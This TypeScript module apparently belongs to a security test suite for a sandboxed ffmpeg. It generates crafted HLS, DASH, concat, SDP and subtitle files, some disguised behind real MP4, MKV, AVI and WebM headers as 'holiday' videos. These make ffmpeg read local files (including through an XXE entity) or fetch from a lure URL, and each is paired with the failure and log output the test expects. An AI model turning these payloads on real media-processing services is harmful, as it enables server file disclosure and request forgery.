import type { Attack, Lure } from '../attack.ts'
import { head } from '../ebml.ts'
import { boxOf, ftyp } from '../mp4.ts'

/** Texts that an unfenced ffmpeg follows to where they point. */
const playlists: Record<string, (lure: Lure) => string> = {
  'HLS of a file': ({ file }) => hls(`file://${file}`),
  'HLS of a path': ({ file }) => hls(file),
  'HLS of a URL': ({ url }) => hls(`${url}/segment.ts`),
  'HLS of a concatenation': ({ file, url }) => hls(`concat:${url}/header|file:${file}`),
  'HLS of a part of a file': ({ file }) => hls(`subfile,,start,0,end,99,,:${file}`),
  'HLS of an encrypted file': ({ file }) =>
    hls(`crypto:file://${file}`, `#EXT-X-KEY:METHOD=AES-128,URI="file://${file}",IV=0x${'00'.repeat(16)}\n`),
  'HLS of inline data that leads on': ({ url }) =>
    hls(`data:application/x-mpegurl;base64,${Buffer.from(hls(`${url}/inner.ts`)).toString('base64')}`),
  'HLS with an initialisation section': ({ url, file }) =>
    hls(`${url}/segment.m4s`, `#EXT-X-MAP:URI="file://${file}"\n`),
  'an HLS master playlist': ({ url }) =>
    `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",URI="${url}/audio.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n${url}/video.m3u8\n`,
  'a DASH manifest': ({ url, file }) => dash(`${url}/dash.mp4`, `file://${file}`),
  'a session description': ({ port }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:rtsp://127.0.0.1:${port}/\nm=audio ${port} RTP/AVP 14\n`,
  'a concat script': ({ file, url }) => `ffconcat version 1.0\nfile ${file}\nfile ${url}/concat.mp4\n`,
  'a Smooth Streaming manifest': ({ url }) =>
    `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="audio" Url="${url}/{bitrate}"/></SmoothStreamingMedia>`,
  'a reference to RTSP': ({ port }) => `RTSPtextRTSP://127.0.0.1:${port}/x\nrtsp://127.0.0.1:${port}/x\n`,
  'a redirection of Windows Media': ({ url }) => `[Reference]\nRef1=${url}/x.asf\n`,
  'subtitles that name a file': ({ file }) => `[Script Info]\n[Fonts]\nfontname: ${file}\n`,
}

const hls = (uri: string, before = ''): string =>
  `#EXTM3U\n#EXT-X-VERSION:4\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n${before}#EXTINF:10.0,\n${uri}\n#EXT-X-ENDLIST\n`

const dash = (...urls: string[]): string =>
  `<?xml version="1.0"?>
<!DOCTYPE MPD [<!ENTITY leak SYSTEM "${urls[1]}">]>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT9S"><Location>${urls[0]}</Location><Period>
<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${urls[0]}</BaseURL>&leak;</Representation></AdaptationSet>
</Period></MPD>`

const endings = ['mp4', 'avi', 'mkv', 'mov', 'webm']

/** ffmpeg's name of what a text is, as far as it knows such texts, and what it has to be called for that. */
const kinds: [what: RegExp, kind: string, name: string][] = [
  [/HLS/, 'hls', 'list.m3u8'],
  [/DASH/, 'dash', 'manifest.mpd'],
  [/session/, 'sdp', 'session.sdp'],
  [/concat script/, 'concat', 'list.ffconcat'],
  [/subtitles/, 'ass', 'subtitles.ass'],
]

const bare: Attack[] = Object.entries(playlists).map(([what, make], index) => {
  const [, kind, nameOfKind] = kinds.find(([pattern]) => pattern.test(what)) ?? []
  return {
    what,
    filename: `holiday.${endings[index % endings.length]}`,
    make: (lure) => Buffer.from(make(lure)),
    ends: ['NOT_MEDIA'],
    reaches: kind === undefined ? undefined : [new RegExp(`Format ${kind} probed`)],
    nameOfKind,
  }
})

/** Beginnings that pass for a video of each kind, and what shows that its demuxer goes on with the text. */
const beginnings: Record<string, [disguise: (text: Buffer) => Buffer, reaches: RegExp]> = {
  mp4: [(text) => Buffer.concat([ftyp, text]), /type:'M3U/],
  mov: [(text) => boxOf('wide', text), /type:'wide' parent:'root' sz: [1-9]\d{3}/],
  avi: [(text) => Buffer.concat([Buffer.from('RIFF\0\0\0\0AVI ', 'latin1'), text]), /^\[avi .*EXT has size/],
  mkv: [(text) => Buffer.concat([head(), text]), /^\[matroska.*Unknown entry 0x234558/],
  webm: [(text) => Buffer.concat([head('webm'), text]), /^\[matroska.*Unknown entry 0x234558/],
}

const everyPlaylist = (lure: Lure): Buffer =>
  Buffer.from(
    Object.values(playlists)
      .map((make) => make(lure))
      .join('\n'),
  )

const disguised: Attack[] = Object.entries(beginnings).map(([ending, [disguise, reaches]]) => ({
  what: `all of these behind the beginning of a real ${ending}`,
  filename: `holiday.${ending}`,
  make: (lure) => disguise(everyPlaylist(lure)),
  ends: ['CORRUPT', 'TRUNCATED'],
  reaches: [reaches],
}))

export const playlistAttacks: Attack[] = [...bare, ...disguised]
